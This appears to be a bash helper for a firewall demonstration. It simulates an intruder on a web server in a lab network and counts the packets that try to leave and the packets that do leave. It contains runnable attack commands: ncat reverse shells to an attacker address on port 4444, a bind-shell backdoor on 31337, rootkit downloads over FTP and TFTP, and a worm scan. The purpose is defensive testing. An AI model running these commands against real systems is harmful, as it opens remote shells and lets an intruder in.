# shellcheck shell=bash
# The web server is taken over, and two witnesses count what comes of it: one on the server's own
# wire (what it tried) and one beyond the router (what left). Sourced by scripts/demo.

WORM_TARGETS=120 # of each address family
CALL_BACKS=6

# One row of the table each: name, the packets that are meant, as tcpdump says it, and the
# drops that are meant, as `show drops -j` names them: protocol and port.
ROWS=(
    "worm scans tcp/80|tcp dst port 80|tcp 80"
    "fetches a rootkit, tcp/21|tcp dst port 21|tcp 21"
    "fetches a rootkit, udp/69|udp dst port 69|udp 69"
    "reverse shell to tcp/4444|tcp dst port 4444|tcp 4444"
    "bind shell on tcp/31337|tcp src port 31337|tcp 31337"
)
FROM_WEB="(src host $WEB4 or src host $WEB6)"

# infect_web: ends when every attempt has succeeded or given up.
infect_web() {
    local pids=() i
    [[ -e $FOLDER/worm.py ]] || install -m 755 "$HERE/demo.d/worm.py" "$FOLDER/worm.py"
    open_backdoor
    local networks=("$INET4")
    ! has_ipv6 || networks+=("$INET6")
    run_as_intruder worm 10 "$PYTHON" "$FOLDER/worm.py" "$WORM_TARGETS" "${networks[@]}"
    run_as_intruder ftp 4 curl -sS "ftp://$ATTACKER4/rootkit.tgz"
    run_as_intruder tftp 4 curl -sS "tftp://$ATTACKER4/rootkit.tgz"
    for ((i = 0; i < CALL_BACKS; i++)); do
        run_as_intruder reverse-shell 3 ncat -n -w 2 -e /bin/sh "$ATTACKER4" 4444
    done
    in_namespace inet timeout 4 ncat -n -w 3 -s "$ATTACKER4" "$WEB4" 31337 \
        <<<'id -un; exit' >"$LOGS/bind-shell" 2>&1 || true
    wait_until 15 are_groups_gone "${pids[@]}" || die "an attack does not end" "see the logs in $LOGS"
    kill_group "$BACKDOOR"
}

# run_as_intruder LOG SECONDS COMMAND...: whoever breaks into a web server is www-data first.
# Appends to the caller's pids.
run_as_intruder() {
    start_in web "$LOGS/$1" setpriv --reuid=www-data --regid=www-data --clear-groups \
        timeout "$2" "${@:3}"
    pids+=("$STARTED")
}

open_backdoor() {
    local pids=()
    run_as_intruder backdoor 60 ncat -n -l -k -e /bin/sh 31337
    BACKDOOR=$STARTED
    wait_until 5 is_listening web tcp 31337 || die "the backdoor does not open" "see $LOGS/backdoor"
}

are_groups_gone() {
    local pid
    for pid; do
        is_group_gone "$pid" || return 1
    done
}

# start_witnesses PHASE: sets WITNESSES to their pids.
start_witnesses() {
    WITNESSES=()
    start_witness web "$FOLDER/tried-$1.pcap" "$FROM_WEB"
    start_witness inet "$FOLDER/left-$1.pcap" "src net $DMZ4 or src net $DMZ6"
}

# start_witness MACHINE FILE FILTER: immediate and unbuffered, so that the file can be asked at any time.
start_witness() {
    local log=$2.log
    unconfined tcpdump -i eth0 -n -s 128 -U --immediate-mode -Z root -w "$2" "$3"
    start_in "$1" "$log" "${UNCONFINED[@]}"
    WITNESSES+=("$STARTED")
    wait_until 10 grep -qs 'listening on' "$log" || die "tcpdump does not start" "see $log"
}

# stop_witnesses PHASE: a witness that missed packets is none.
stop_witnesses() {
    local log
    kill_group "${WITNESSES[@]}"
    for log in "$FOLDER"/{tried,left}-"$1".pcap.log; do
        grep -qs '^0 packets dropped by kernel' "$log" || say_bad "tcpdump missed packets: $log"
    done
}

# count_packets FILE FILTER
count_packets() {
    unconfined tcpdump -n -r "$1" "$2"
    "${UNCONFINED[@]}" 2>/dev/null | wc -l
}

# The journal of the attacker: what really worked.
count_successes() { grep -c "^$1" "$FOLDER/attacker.journal" || true; }

forget_successes() { : >"$FOLDER/attacker.journal"; }
